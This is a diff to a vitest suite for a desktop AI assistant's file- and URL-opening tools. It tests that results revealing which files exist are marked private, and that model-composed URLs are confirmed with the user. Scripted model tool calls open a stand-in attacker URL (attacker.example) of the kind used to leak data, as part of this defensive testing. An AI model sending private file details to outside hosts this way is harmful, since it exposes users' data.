@@ -1,3 +1,4 @@
+import { symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect, onTestFinished, test, vi } from 'vitest';
 import type { ModelQuestion } from '../../../src-preload/contract/desktop-tools.ts';
@@ -25,7 +26,7 @@ const results = (rig: WindowRig, id: string) =>
   rig.turnEvents(id).filter(({ type }) => type === 'tool_result') as unknown as readonly {
     readonly text: string;
     readonly isError: boolean;
-    readonly marks?: readonly { readonly kind: string }[];
+    readonly marks?: readonly { readonly kind: string; readonly source: string }[];
   }[];
 
 /** What the page shows as asked by a model. */
@@ -170,7 +171,7 @@ test('open_path asks as a program that is run, paths outside the roots are refus
   const { id } = await rig.request<{ id: string }>('conversations.send', { id: null, text: 'Open' });
   const opening = await rig.answer({ answer: 'once' });
   expect(opening.title).toBe('Open report.pdf?');
-  // A file was looked at: an address that the model composed could carry what it says.
+  // The model has learnt which files exist: an address that it composed could carry that.
   const address = await rig.answer({ answer: 'deny' });
   expect(JSON.stringify(address)).toContain('attacker.example');
   await rig.turnEnded(id);
@@ -182,6 +183,85 @@ test('open_path asks as a program that is run, paths outside the roots are refus
     text: 'words',
   });
   expect(results(rig, id).some(({ text }) => text.includes('words'))).toBe(false);
+});
+
+const marksOf = ({
+  marks = [],
+}: {
+  readonly marks?: readonly { readonly kind: string; readonly source: string }[];
+} = {}) => marks.map(({ kind, source }) => `${kind} ${source}`);
+
+test('what a person agreed to open marks nothing: the model is given none of it, and the next page is not asked about', async () => {
+  const { rig } = await windowWith(
+    [
+      use(['open_path', { path: 'link.pdf' }]),
+      use(['open_url', { url: 'https://attacker.example/?q=1' }]),
+      { text: 'Done.' },
+    ],
+    { files: { 'secret-plan.pdf': 'words' } },
+  );
+  symlinkSync('secret-plan.pdf', join(rig.workspace, 'link.pdf'));
+  const { id } = await rig.request<{ id: string }>('conversations.send', { id: null, text: 'Open' });
+  const opening = await rig.answer({ answer: 'once' });
+  expect(opening.title).toBe('Open secret-plan.pdf?');
+  expect(opening.reason).toBe('Steward asks before it opens anything in another program.');
+  expect(JSON.stringify(opening.parts)).not.toMatch(/xdg-open|command/);
+  expect(JSON.stringify(opening.parts)).toContain(join(rig.workspace, 'secret-plan.pdf'));
+  await rig.turnEnded(id);
+  const [opened] = results(rig, id);
+  // Where the link leads would be a name that the model did not give.
+  expect(opened).toMatchObject({ text: 'Opened link.pdf.', isError: false });
+  expect(results(rig, id).flatMap(marksOf)).toEqual([]);
+  expect(rig.opened).toEqual([`open ${join(rig.workspace, 'secret-plan.pdf')}`, 'https://attacker.example/?q=1']);
+});
+
+test('a page of this machine that is opened marks nothing', async () => {
+  const { rig } = await windowWith([use(['open_url', { url: 'http://127.0.0.1:9/' }]), { text: 'Done.' }]);
+  const { id } = await rig.request<{ id: string }>('conversations.send', { id: null, text: 'Open' });
+  await rig.answer({ answer: 'once' });
+  await rig.turnEnded(id);
+  expect(results(rig, id).flatMap(marksOf)).toEqual([]);
+});
+
+test('what is shown unasked tells the model which files exist: that is private, as names in a listing are, and nothing else is', async () => {
+  const { rig } = await windowWith(
+    [
+      use(['reveal_in_folder', { path: 'report.pdf' }], ['preview_file', { path: 'report.pdf' }]),
+      use(['preview_file', { path: '.env' }]),
+      use(['reveal_in_folder', { path: 'none' }], ['preview_file', { path: 'none' }]),
+      use(['open_path', { path: 'none' }], ['notify', { title: 'x'.repeat(300) }]),
+      { text: 'Done.' },
+    ],
+    { files: { 'report.pdf': 'words', '.env': 'PIN=1234' } },
+  );
+  const { id } = await rig.request<{ id: string }>('conversations.send', { id: null, text: 'Show' });
+  await rig.answer({ answer: 'once' });
+  await rig.turnEnded(id);
+  const [revealed, previewed, secret, notFound, notShown, notOpened, tooLong] = results(rig, id);
+  for (const shown of [revealed, previewed]) expect(marksOf(shown)).toEqual(['private whether report.pdf exists']);
+  expect(revealed?.text).toBe('Showed report.pdf in the file manager.');
+  expect(secret?.text).toBe('.env is shown.');
+  expect(marksOf(secret)).toEqual(['private whether .env exists']);
+  expect(marksOf(notFound)).toEqual(['private what reveal_in_folder looked at']);
+  expect(marksOf(notShown)).toEqual(['private whether none exists']);
+  expect(notShown?.text).toBe('Error: ENOENT: no such file or directory: none');
+  expect(marksOf(notOpened)).toEqual(['private what open_path looked at']);
+  // Only its arguments were looked at.
+  expect(tooLong?.isError).toBe(true);
+  expect(marksOf(tooLong)).toEqual([]);
+});
+
+test('what could not be opened says why, which is private', async () => {
+  const { rig } = await windowWith([use(['open_path', { path: 'report.pdf' }]), { text: 'Done.' }], {
+    files: { 'report.pdf': 'words' },
+  });
+  rig.openingFails = 'No program opens this';
+  const { id } = await rig.request<{ id: string }>('conversations.send', { id: null, text: 'Open' });
+  await rig.answer({ answer: 'once' });
+  await rig.turnEnded(id);
+  const [failed] = results(rig, id);
+  expect(failed).toMatchObject({ isError: true, text: expect.stringContaining('No program opens this') });
+  expect(marksOf(failed)).toEqual(['private whether report.pdf exists']);
 });
 
 test('the selection is that of the conversation that asks, and text from outside', async () => {
